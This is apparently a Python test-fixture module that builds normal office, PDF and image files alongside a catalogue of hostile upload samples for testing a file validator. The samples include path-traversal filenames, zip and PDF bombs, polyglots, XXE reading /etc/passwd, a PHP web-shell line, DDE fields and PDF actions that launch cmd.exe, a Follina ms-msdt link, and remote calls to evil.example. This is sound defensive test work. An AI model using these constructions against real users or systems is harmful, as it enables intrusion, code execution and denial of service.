"""Files made to harm, and good ones such as people bring, each built by code."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

import pikepdf
from docx import Document as Word
from openpyxl import Workbook
from openpyxl.worksheet.hyperlink import Hyperlink
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
OFFICE = "application/vnd.openxmlformats-officedocument."
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)

# Good files ---------------------------------------------------------------------------------------------------


def picture(kind: str, size: tuple[int, int] = (120, 80), **options: Any) -> bytes:
    """A picture."""
    stream = io.BytesIO()
    Image.new("RGB", size, "#20638c").save(stream, kind, **options)
    return stream.getvalue()


def word() -> bytes:
    """A Word file with headings, a table, a picture, a footnote-like field and a link to the web."""
    made = Word()
    made.add_heading("Progress report", level=1)
    made.add_paragraph("The Bureau met in Geneva.", style="List Bullet")
    table = made.add_table(rows=3, cols=3)
    table.cell(0, 0).text = "Region"
    made.add_picture(io.BytesIO(picture("PNG")))
    made.part.relate_to("https://www.un.org/en/", f"{RELATIONSHIP}/hyperlink", is_external=True)
    made.core_properties.title = "Progress report"
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def workbook(rows: int = 50) -> bytes:
    """A workbook with two sheets, a formula, a link and a merged cell."""
    made = Workbook()
    sheet: Any = made.active
    sheet.append(["Donor", "Amount", "Shown as"])
    for number in range(rows):
        sheet.append([f"Donor {number}", number * 1000, f'=IF(B{number + 2}>0,"a|b","")'])
    sheet["A2"].hyperlink = Hyperlink(ref="A2", target="https://www.un.org/")
    made.create_sheet("Notes").merge_cells("A1:B1")
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def pages(change: Callable[[pikepdf.Pdf], object] | None = None, **options: Any) -> bytes:
    """A PDF file with a page, a title, a link to the web and where it opens."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    page = made.pages[0]
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.un.org/")
    page.Annots = made.make_indirect(pikepdf.Array([annotation("Link", A=action)]))
    made.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
    if change is not None:
        change(made)
    stream = io.BytesIO()
    made.save(stream, **options)
    return stream.getvalue()


def annotation(subtype: str, **values: Any) -> pikepdf.Dictionary:
    """Something that stands on a page beside its text."""
    name = pikepdf.Name(f"/{subtype}")
    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=name, Rect=[0, 0, 10, 10], **values)


def slides() -> bytes:
    """The smallest presentation that programs open."""
    p = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    return package(
        "ppt/presentation.xml",
        f"{OFFICE}presentationml.presentation.main+xml",
        f'<p:presentation {p}><p:sldSz cx="9144000" cy="6858000"/></p:presentation>',
    )


def package(
    main: str, kind: str, content: str, parts: Mapping[str, bytes | str] | None = None, types: str = ""
) -> bytes:
    """A package with a main part, further parts, and what is further said of parts."""
    told = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{kind}"/>{types}</Types>'
    )
    return zipped(
        {
            "[Content_Types].xml": told,
            "_rels/.rels": leads(("officeDocument", main, "")),
            main: content,
            **(parts or {}),
        }
    )


def leads(*rows: tuple[str, str, str]) -> str:
    """Relationships: the kind, where to, the mode."""
    ones = "".join(
        f'<Relationship Id="r{number}" Type="{kind if kind.startswith("http") else f"{RELATIONSHIP}/{kind}"}" '
        f'Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{ones}</Relationships>'


def zipped(parts: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return stream.getvalue()


def small_word(content: str = "", parts: Mapping[str, bytes | str] | None = None, types: str = "") -> bytes:
    """A small Word file with something in it."""
    body = f"<w:document {W}><w:body><w:p/>{content}</w:body></w:document>"
    return package("word/document.xml", f"{OFFICE}wordprocessingml.document.main+xml", body, parts, types)


def small_workbook(
    cells: str = "", parts: Mapping[str, bytes | str] | None = None, names: str = "", types: str = ""
) -> bytes:
    """A small workbook with cells on its sheet."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = f"<worksheet {space}><sheetData>{cells}</sheetData></worksheet>"
    r = f'xmlns:r="{RELATIONSHIP}"'
    book = f'<workbook {space} {r}><sheets><sheet name="a" sheetId="1" r:id="r0"/></sheets>{names}</workbook>'
    said = (
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{OFFICE}spreadsheetml.worksheet+xml"/>'
    )
    return package(
        "xl/workbook.xml",
        f"{OFFICE}spreadsheetml.sheet.main+xml",
        book,
        {
            "xl/_rels/workbook.xml.rels": leads(("worksheet", "worksheets/sheet1.xml", "")),
            "xl/worksheets/sheet1.xml": sheet,
            **(parts or {}),
        },
        said + types,
    )


def edited(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """An archive with a changed member."""
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        parts = {info.filename: opened.read(info) for info in opened.infolist()}
    return zipped({**parts, name: change(parts.get(name, b""))})


# Hostile files ----------------------------------------------------------------------------------------------


def led(*rows: tuple[str, str, str]) -> bytes:
    """A Word file that leads somewhere."""
    return small_word(parts={"word/_rels/document.xml.rels": leads(*rows)})


def acting(action: Mapping[str, Any], where: str = "OpenAction") -> bytes:
    """A PDF file that does something."""

    def change(made: pikepdf.Pdf) -> None:
        made.Root[f"/{where}"] = made.make_indirect(pikepdf.Dictionary(action))

    return pages(change)


def does(name: str, **values: Any) -> dict[str, Any]:
    """An action."""
    return {"/S": pikepdf.Name(f"/{name}"), **{f"/{key}": value for key, value in values.items()}}


def attached(made: pikepdf.Pdf) -> None:
    """Attach a file."""
    made.attachments["run.exe"] = pikepdf.AttachedFileSpec(made, b"MZ" * 100, filename="run.exe")


def with_form(made: pikepdf.Pdf) -> None:
    """Make it a form of XML."""
    form = made.make_stream(b"<xdp:xdp/>")
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=form)


def with_film(made: pikepdf.Pdf) -> None:
    """Put a film on its page."""
    made.pages[0].Annots = pikepdf.Array([annotation("RichMedia")])


def hidden_script(made: pikepdf.Pdf) -> None:
    """Put a script on a link, in compressed objects and with its name written in numbers."""
    action = made.make_indirect(pikepdf.Dictionary(does("JavaScript", JS="app.alert(1)")))
    made.pages[0].Annots = pikepdf.Array([annotation("Link", A=action)])


def exploding_pages() -> bytes:
    """A PDF file in which a list of objects of two megabytes unpacks to two gigabytes."""
    block, times = b" " * 10_000_000, 200
    packing = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    packed = packing.compress(block) + packing.flush(zlib.Z_FULL_FLUSH)  # knows nothing of what stands before
    total = 1
    for _time in range(times):
        total = zlib.adler32(block, total)
    bomb = b"\x78\xda" + packed * times + b"\x03\x00" + struct.pack(">I", total)
    said = b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(bomb)
    first = b"%PDF-1.5\n"
    listed = first + said + bomb + b"\nendstream\nendobj\n"
    rows = [(0, 0, 0), (2, 2, 0), (1, len(first), 0), (1, len(listed), 0)]  # ISO 32000-2, 7.5.8.3
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    last = b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return listed + last + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(listed)


def png(width: int, height: int) -> bytes:
    """A small PNG file that says it is large."""
    header = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 10_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(name: bytes, content: bytes) -> bytes:
    """A chunk of a PNG file."""
    checked = struct.pack(">I", zlib.crc32(name + content))
    return struct.pack(">I", len(content)) + name + content + checked


def with_text(content: bytes, text: bytes) -> bytes:
    """A PNG file with a text in it."""
    return content[:33] + chunk(b"tEXt", b"Comment\0" + text) + content[33:]


def with_comment(content: bytes, text: bytes) -> bytes:
    """A JPEG file with a comment."""
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + content[2:]


def encrypted(content: bytes) -> bytes:
    """An archive whose members say that they are encrypted."""
    raw = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(sign)
        while at >= 0:
            raw[at + place] |= 1
            at = raw.find(sign, at + 4)
    return bytes(raw)


def lying(content: bytes) -> bytes:
    """An archive whose list calls the first member smaller than it is."""
    raw = bytearray(content)
    at = raw.find(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(raw)


def overlapping() -> bytes:
    """An archive in which many names share the bytes of one member. Source: D. Fifield, A better zip bomb, 2019."""
    content = bytearray(zipped({"a.xml": b"x" * 5000}))
    start = content.find(b"PK\x01\x02")
    entry, end = bytes(content[start:-22]), bytearray(content[-22:])
    entries = b"".join(entry.replace(b"a.xml", b"%c.xml" % (97 + n)) for n in range(20))
    struct.pack_into("<2H2L", end, 8, 20, 20, len(entries), start)
    return bytes(content[:start]) + entries + bytes(end)


def with_gap(content: bytes) -> bytes:
    """An archive with something between its members and its list."""
    start = content.find(b"PK\x01\x02")
    hidden = b"<script>alert(1)</script>"
    raw = bytearray(content[:start] + hidden + content[start:])
    struct.pack_into("<L", raw, len(raw) - 6, start + len(hidden))
    return bytes(raw)


def for_newer_programs(archive: bytes) -> bytes:
    """An archive whose list says that it takes a newer program than any to unpack the first member."""
    content = bytearray(archive)
    content[content.index(b"PK\x01\x02") + 6] = 99
    return bytes(content)


def two_lists(content: bytes, other: bytes) -> bytes:
    """Two archives one behind the other: which of them a program opens depends on it."""
    return content + other


FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
    '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
MACROS = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
XLM = '<Override PartName="/xl/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'


@functools.cache
def hostile() -> dict[str, tuple[str, bytes]]:
    """What each file tries: its name as it is sent, and what it holds."""
    good_word, good_pages, good_png, good_jpg = word(), pages(), picture("PNG"), picture("JPEG")
    jar = zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
    thousand = {f"word/{number}.xml": "<a/>" for number in range(1001)}
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    return {
        # What it is called
        "name: into another folder": ("../../etc/cron.d/x.pdf", good_pages),
        "name: into another folder of Windows": ("..\\..\\x.pdf", good_pages),
        "name: from the root": ("/etc/passwd.pdf", good_pages),
        "name: letters turned round": ("report\u202efdp.exe", good_pages),
        "name: letters turned round within": ("report\u2066exe.pdf", good_pages),
        "name: NUL": ("report.pdf\0.exe", good_pages),
        "name: line break": ("report\r\nSet-Cookie: x.pdf", good_pages),
        "name: two endings, a program first": ("report.exe.pdf", good_pages),
        "name: two endings, a page first": ("report.html.pdf", good_pages),
        "name: two endings, a program last": ("report.pdf.exe", good_pages),
        "name: only an ending": (".pdf", good_pages),
        "name: ending of another kind": ("report.docx", good_pages),
        "name: too long": ("a" * 300 + ".pdf", good_pages),
        # Which kind it is
        "kind: web page as PDF": ("a.pdf", b"<!DOCTYPE html><script>alert(1)</script>"),
        "kind: SVG as PNG": ("a.png", svg),
        "kind: SVG": ("a.svg", svg),
        "kind: program": ("a.pdf", b"MZ" + b"\0" * 500),
        "kind: GIF": ("a.png", picture("GIF")),
        "kind: TIFF": ("a.png", picture("TIFF")),
        "kind: old Office file": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "kind: archive": ("a.docx", jar),
        "kind: XML": ("a.docx", b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><x/>"),
        "kind: RTF": ("a.docx", rb"{\rtf1\object\objdata}"),
        "kind: text": ("a.pdf", b"hello"),
        "kind: EICAR": ("a.pdf", EICAR),
        "kind: nothing": ("a.pdf", b""),
        # How large it is
        "size: larger than any": ("a.pdf", good_pages + b" " * 25_000_000),
        "size: archive bomb": ("a.docx", small_word(parts={"word/b.xml": "<a>" + " " * 60_000_000 + "</a>"})),
        "size: larger unpacked than memory": (
            "a.docx",
            small_word(parts={f"word/{n}.xml": "<a>" + " " * 9_000_000 + "</a>" for n in range(40)}),
        ),
        "size: a thousand and one parts": ("a.docx", small_word(parts=thousand)),
        "size: members that overlap": ("a.docx", overlapping()),
        "size: list that lies": ("a.docx", lying(good_word)),
        "size: archive in an archive": ("a.docx", small_word(parts={"word/media/image1.png": jar})),
        "size: picture of gigabytes": ("a.png", png(60_000, 60_000)),
        "size: picture of many points": ("a.png", png(10_000, 6_000)),
        "size: PDF file whose objects explode": ("a.pdf", exploding_pages()),
        "size: elements within elements": ("a.docx", small_word("<w:p>" * 5000 + "</w:p>" * 5000)),
        # Two files in one
        "two: PDF and archive": ("a.pdf", good_pages + jar),
        "two: PDF and archive before its end": (
            "a.pdf",
            pages(lambda made: made.Root.__setitem__("/X", made.make_stream(jar)), compress_streams=False),
        ),
        "two: JPEG with an archive for newer programs as comment": (
            "a.jpg",
            with_comment(good_jpg, for_newer_programs(jar)),
        ),
        "two: PNG and archive": ("a.png", good_png + jar),
        "two: JPEG and JAR (GIFAR)": ("a.jpg", good_jpg + jar),
        "two: JPEG with an archive as comment": ("a.jpg", with_comment(good_jpg, jar)),
        "two: JPEG with a page as comment": (
            "a.jpg",
            with_comment(good_jpg, b"*/=1;<script src=x></script>"),
        ),
        "two: PNG with PHP": ("a.png", with_text(good_png, b"<?php system($_GET[0]); ?>")),
        "two: PNG with a PDF file": ("a.png", with_text(good_png, b"%PDF-1.4\n")),
        "two: PNG with more behind": ("a.png", good_png + b"<script>alert(1)</script>"),
        "two: page and PDF": ("a.pdf", b"<html><script>alert(1)</script>\n" + good_pages),
        "two: PDF with a page in its head": ("a.pdf", good_pages.replace(b"\n", b"\n%<html><script>x\n", 1)),
        "two: PDF with more behind": ("a.pdf", good_pages + b"<script>alert(1)</script>"),
        "two: program and archive": ("a.docx", b"MZ\x90" + good_word),
        "two: archive with more behind": ("a.docx", good_word + b"more"),
        "two: archive with a comment": ("a.docx", good_word[:-2] + b"\x04\0more"),
        "two: archive with a gap": ("a.docx", with_gap(good_word)),
        "two: two archives": ("a.docx", two_lists(good_word, jar)),
        # What runs
        "runs: macros": ("a.docx", small_word(parts={"word/vbaProject.bin": b"x"}, types=MACROS)),
        "runs: macros under another name": (
            "a.docx",
            small_word(
                parts={
                    "word/settings.bin": b"x",
                    "word/_rels/document.xml.rels": leads((f"{MICROSOFT}/vbaProject", "settings.bin", "")),
                },
                types='<Default Extension="bin" ContentType="application/vnd.ms-word.printer"/>',
            ),
        ),
        "runs: document with macros called .docx": (
            "a.docx",
            package(
                "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", f"<a {W}/>"
            ),
        ),
        "runs: old macros (XLM)": ("a.xlsx", small_workbook(parts={"xl/s.xml": "<a/>"}, types=XLM)),
        "runs: old macros by name": (
            "a.xlsx",
            small_workbook(
                names='<definedNames><definedName name="Auto_Open" xlm="1">a!$A$1</definedName></definedNames>'
            ),
        ),
        "runs: control (ActiveX)": ("a.docx", small_word(parts={"word/activeX/activeX1.xml": "<a/>"})),
        "runs: control by its relationship": ("a.docx", led(("control", "x.xml", ""))),
        "runs: menus (custom UI)": ("a.docx", small_word(parts={"customUI/customUI.xml": "<a/>"})),
        "runs: program behind a slide": (
            "a.pptx",
            edited(
                slides(),
                "ppt/presentation.xml",
                lambda old: old.replace(b"<p:sldSz", b'<p:x action="ppaction://program"/><p:sldSz'),
            ),
        ),
        "runs: script in a drawing": (
            "a.docx",
            small_word(
                parts={"word/media/a.svg": svg},
                types='<Default Extension="svg" ContentType="image/svg+xml"/>',
            ),
        ),
        "runs: script when opened": ("a.pdf", acting(does("JavaScript", JS="app.alert(1)"))),
        "runs: script by name": (
            "a.pdf",
            acting({"/JavaScript": pikepdf.Dictionary(Names=["a", does("JavaScript", JS="1")])}, "Names"),
        ),
        "runs: script in compressed objects": (
            "a.pdf",
            pages(hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        ),
        "runs: script when a page shows": (
            "a.pdf",
            pages(lambda made: made.pages[0].__setattr__("AA", pikepdf.Dictionary(O=does("GoTo")))),
        ),
        "runs: script written in numbers": (
            "a.pdf",
            acting(does("Xxxxxxxxxxxx", X="app.alert(1)")).replace(b"/Xxxxxxxxxxxx", b"/J#61vaScript", 1),
        ),
        "runs: program when opened": ("a.pdf", acting(does("Launch", F="cmd.exe"))),
        "runs: form of XML (XFA)": ("a.pdf", pages(with_form)),
        "runs: film": ("a.pdf", pages(with_film)),
        # What is fetched
        "fetches: template": ("a.docx", led(("attachedTemplate", "https://evil.example/t.dotm", "External"))),
        "fetches: picture": ("a.docx", led(("image", "https://evil.example/pixel.png", "External"))),
        "fetches: picture that claims to be inside": (
            "a.docx",
            led(("image", "https://evil.example/p.png", "")),
        ),
        "fetches: frame": ("a.docx", led(("frame", "https://evil.example/f.htm", "External"))),
        "fetches: link to a server of files": (
            "a.docx",
            led(("hyperlink", r"\\evil.example\share\x", "External")),
        ),
        "fetches: link to a file": (
            "a.docx",
            led(("hyperlink", "file:///c:/windows/system32/calc.exe", "External")),
        ),
        "fetches: link to a file beside it": ("a.docx", led(("hyperlink", "..\\x.exe", "External"))),
        "fetches: link to a file beside it, in PDF": (
            "a.pdf",
            pages(
                lambda made: made.pages[0].__setattr__(
                    "Annots",
                    pikepdf.Array([annotation("Link", A=pikepdf.Dictionary(does("URI", URI="calc.exe")))]),
                )
            ),
        ),
        "fetches: link that is a script": ("a.docx", led(("hyperlink", "javascript:alert(1)", "External"))),
        "fetches: link to a program (Follina)": (
            "a.docx",
            led(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")),
        ),
        "fetches: picture of a drawing": (
            "a.docx",
            small_word(
                '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/p.png"/>'
            ),
        ),
        "fetches: field in pieces (DDEAUTO)": ("a.docx", small_word(FIELD)),
        "fetches: field that includes": (
            "a.docx",
            small_word('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/p.png&quot; "/>'),
        ),
        "fetches: data of another program (DDE)": (
            "a.xlsx",
            small_workbook('<row r="1"><c r="A1"><f>cmd|\'/c calc\'!A0</f><v>0</v></c></row>'),
        ),
        "fetches: service of the web": (
            "a.xlsx",
            small_workbook(
                '<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;B1)</f><v>0</v></c></row>'
            ),
        ),
        "fetches: another workbook": (
            "a.xlsx",
            small_workbook(parts={"xl/externalLinks/externalLink1.xml": "<a/>"}),
        ),
        "fetches: database": ("a.xlsx", small_workbook(parts={"xl/connections.xml": "<a/>"})),
        "fetches: another PDF file": ("a.pdf", acting(does("GoToR", F="\\\\evil.example\\x.pdf"))),
        "fetches: page when opened": ("a.pdf", acting(does("URI", URI="https://evil.example/"))),
        "fetches: sends the form": ("a.pdf", acting(does("SubmitForm", F="https://evil.example/"))),
        "fetches: link of a PDF file that is a script": (
            "a.pdf",
            pages(
                lambda made: made.pages[0].__setattr__(
                    "Annots",
                    pikepdf.Array(
                        [annotation("Link", A=pikepdf.Dictionary(does("URI", URI="javascript:app.alert(1)")))]
                    ),
                )
            ),
        ),
        # What is inside
        "inside: object (OLE)": ("a.docx", small_word(parts={"word/embeddings/oleObject1.bin": b"x"})),
        "inside: object elsewhere": ("a.docx", led(("oleObject", "media/image1.png", ""))),
        "inside: workbook of a chart": ("a.docx", small_word(parts={"word/embeddings/a.xlsx": workbook(1)})),
        "inside: web page (altChunk)": ("a.docx", led(("aFChunk", "a.htm", ""))),
        "inside: web page called a picture": (
            "a.docx",
            small_word(
                parts={"word/media/image1.png": b"<html><script>x</script>"},
                types='<Default Extension="png" ContentType="image/png"/>',
            ),
        ),
        "inside: program called a picture": (
            "a.docx",
            small_word(
                parts={"word/media/image1.png": b"MZ\x90"},
                types='<Default Extension="png" ContentType="image/png"/>',
            ),
        ),
        "inside: part of an unknown kind": ("a.docx", small_word(parts={"word/run.exe": b"x"})),
        "inside: part of which nothing is said": (
            "a.docx",
            small_word(parts={"word/media/image1.png": good_png}),
        ),
        "inside: part that leads out": ("a.docx", small_word(parts={"../../x.xml": "<a/>"})),
        "inside: part with the name of another": ("a.docx", small_word(parts={"WORD/document.xml": "<a/>"})),
        "inside: file attached to a PDF file": ("a.pdf", pages(attached)),
        # What is declared in XML
        "XML: entities (billion laughs)": ("a.docx", small_word(parts={"word/b.xml": f"{LAUGHS}<a>&j;</a>"})),
        "XML: entities in an attribute": (
            "a.docx",
            small_word(parts={"word/b.xml": f'{LAUGHS}<a b="&j;"/>'}),
        ),
        "XML: file": (
            "a.docx",
            small_word(
                parts={"word/b.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
            ),
        ),
        "XML: address": (
            "a.xlsx",
            small_workbook(
                parts={"xl/sharedStrings.xml": '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'}
            ),
        ),
        "XML: declared in UTF-16": (
            "a.docx",
            small_word(
                parts={
                    "word/b.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode(
                        "utf-16"
                    )
                }
            ),
        ),
        "XML: declared in UTF-7": (
            "a.docx",
            small_word(parts={"word/b.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'}),
        ),
        "XML: none": ("a.docx", small_word(parts={"word/b.xml": "not XML"})),
        # What is protected or damaged
        "protected: archive": ("a.docx", encrypted(good_word)),
        "protected: PDF": (
            "a.pdf",
            pages(encryption=pikepdf.Encryption(owner="a", user="b")),
        ),
        "protected: PDF that opens without a password": (
            "a.pdf",
            pages(encryption=pikepdf.Encryption(owner="a", user="")),
        ),
        "damaged: archive cut off": ("a.docx", good_word[:-400]),
        "damaged: member spoilt": ("a.docx", good_word[:200] + b"\0" * 40 + good_word[240:]),
        "damaged: PDF without its list": ("a.pdf", good_pages.replace(b"xref", b"xxxx")),
        "damaged: PDF cut off": ("a.pdf", good_pages[:-40]),
        "damaged: PDF that is a head only": ("a.pdf", b"%PDF-1.7\n"),
        "damaged: PNG cut off": ("a.png", good_png[:-20]),
        "damaged: PNG without points": ("a.png", good_png[:33] + chunk(b"IEND", b"")),
        "damaged: JPEG cut off": ("a.jpg", good_jpg[:-30]),
        "damaged: JPEG that is a head only": ("a.jpg", b"\xff\xd8\xff\xd9"),
    }
